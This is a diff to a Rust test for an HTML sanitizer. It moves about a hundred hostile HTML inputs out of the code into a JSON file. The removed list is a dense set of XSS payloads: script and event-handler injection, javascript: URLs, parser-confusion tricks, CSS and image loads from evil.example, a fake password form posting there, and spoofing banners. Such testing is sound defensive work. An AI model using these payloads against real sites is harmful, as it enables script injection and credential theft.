@@ -57,110 +57,18 @@ pub fn assert_safe(html: &str) {
     }
 }
 
-const HOSTILE: &[&str] = &[
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<script/x>alert(1)</script\n>",
-    "<script>alert(1)",
-    "<img src=x onerror=alert(1)>",
-    "<img src=\"x\" onerror\n=\n\"alert(1)\">",
-    "<IMG SRC=javascript:alert(1)>",
-    "<img src=\"jav\tascript:alert(1)\">",
-    "<img src=\"&#106;avascript:alert(1)\">",
-    "<img src=`javascript:alert(1)`>",
-    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
-    "<img src='data:text/html,<script>1</script>'>",
-    "<img src='data:image/png;base64,AA\"onload=alert(1)'>",
-    "<img srcset='https://evil.example/a 1x' src>",
-    "<img dynsrc='javascript:alert(1)' lowsrc='javascript:alert(1)'>",
-    "<img src=//evil.example/pixel.gif>",
-    "<img src=\\\\evil.example\\a>",
-    "<img src=http://evil.example/pixel.gif>",
-    "<img src=file:///etc/passwd>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href=\" &#14; javascript:alert(1)\">x</a>",
-    "<a href=\"java\nscript:alert(1)\">x</a>",
-    "<a href=vbscript:msgbox(1)>x</a>",
-    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
-    "<a href='blob:https://x.example/1'>x</a>",
-    "<a href=/mail/logout>x</a>",
-    "<a href='#content' onclick=alert(1) onmouseover=alert(1)>x</a>",
-    "<a href=https://evil.example target=_top rel=opener>x</a>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
-    "<svg><animate attributeName=href values=javascript:alert(1)>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-    "<math href=javascript:alert(1)>x</math>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<meta http-equiv=Set-Cookie content=a=b>",
-    "<link rel=stylesheet href=https://evil.example/a.css>",
-    "<link rel=prefetch href=https://evil.example/>",
-    "<style>@import 'https://evil.example/a.css';</style>",
-    "<style>body{background:url(https://evil.example)}</style>",
-    "<style><!--</style><script>alert(1)//--></script>",
-    "<div style='background:url(https://evil.example/a)'>x</div>",
-    "<div style='background-image:\\75rl(https://evil.example)'>x</div>",
-    "<div style='width:expression(alert(1))'>x</div>",
-    "<div style='-moz-binding:url(x);behavior:url(x)'>x</div>",
-    "<div style='position:fixed;inset:0;z-index:9999;background-color:white'>x</div>",
-    "<div style=\"color:red;}</style><script>alert(1)</script>\">x</div>",
-    "<body background=https://evil.example/a onload=alert(1)>x</body>",
-    "<table background=https://evil.example/a><td background=javascript:alert(1)>x</table>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<frameset><frame src=javascript:alert(1)></frameset>",
-    "<object data=javascript:alert(1)></object>",
-    "<object type=text/html data=https://evil.example><embed src=https://evil.example></object>",
-    "<embed src=javascript:alert(1)>",
-    "<applet code=x archive=https://evil.example></applet>",
-    "<audio src=https://evil.example onerror=alert(1)></audio>",
-    "<video poster=https://evil.example><source src=https://evil.example onerror=alert(1)></video>",
-    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>Log in</button></form>",
-    "<input type=image src=https://evil.example onfocus=alert(1) autofocus>",
-    "<isindex action=javascript:alert(1) type=image>",
-    "<select onfocus=alert(1) autofocus><option>x</select>",
-    "<textarea autofocus onfocus=alert(1)></textarea><script>1</script>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "<keygen autofocus onfocus=alert(1)>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
-    "<title></title><img src=x onerror=alert(1)>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml-stylesheet href=javascript:alert(1)?>",
-    "<xmp><img src=x onerror=alert(1)></xmp>",
-    "<plaintext><script>alert(1)</script>",
-    "<template><script>alert(1)</script></template>",
-    "<div class='banner down' id=banner role=alert aria-live=assertive>Mail system is down, log in again</div>",
-    "<p id=main name=main class=skip>x</p>",
-    "<p\0onclick=alert(1)>x</p>",
-    "<p/onclick=alert(1)/style=position:fixed>x</p>",
-    "<p \u{202e}onclick=alert(1)>\u{202e}x</p>",
-    "<a href=\"https://evil.example\" title=\"\u{202e}elpmaxe\">x</a>",
-    "<img alt='\"><script>alert(1)</script>' src=x>",
-    "<p title='</p><script>alert(1)</script>'>x</p>",
-    "<b <script>alert(1)</script>>x</b>",
-    "<<script>alert(1)//<</script>",
-    "<dialog open><p>Your session ended</p></dialog>",
-    "<portal src=https://evil.example></portal>",
-    "<a ping=https://evil.example href=https://x.example>x</a>",
-    "<img usemap=#m><map name=m><area href=javascript:alert(1) shape=default></map>",
-    "<p dir=ltr lang='\"><img onerror=1>'>x</p>",
-    "<td><script>alert(1)</script></td><tr><col onclick=x>",
-    "<slot onslotchange=alert(1)></slot><custom-element onclick=1>x</custom-element>",
-];
+/// The same that a real browser is shown (`tests/browser`).
+fn hostile() -> Vec<String> {
+    serde_json::from_str(include_str!("hostile.json")).unwrap()
+}
 
 #[test]
 fn hostile_html_runs_nothing_loads_nothing_and_looks_like_nothing_of_ours() {
-    for hostile in HOSTILE {
+    let all = hostile();
+    assert!(all.len() > 110);
+    for hostile in &all {
         for html in [
-            (*hostile).to_owned(),
+            hostile.clone(),
             format!("<table><tr><td>{hostile}</td></tr></table>"),
             format!("<p>before {hostile} after"),
             format!("<b><i><div {hostile}"),
@@ -172,7 +80,6 @@ fn hostile_html_runs_nothing_loads_nothing_and_looks_like_nothing_of_ours() {
             assert_safe(clean(&html, &InlineImages::default(), true).html.as_str());
         }
     }
-    assert!(HOSTILE.len() > 90);
 }
 
 #[test]
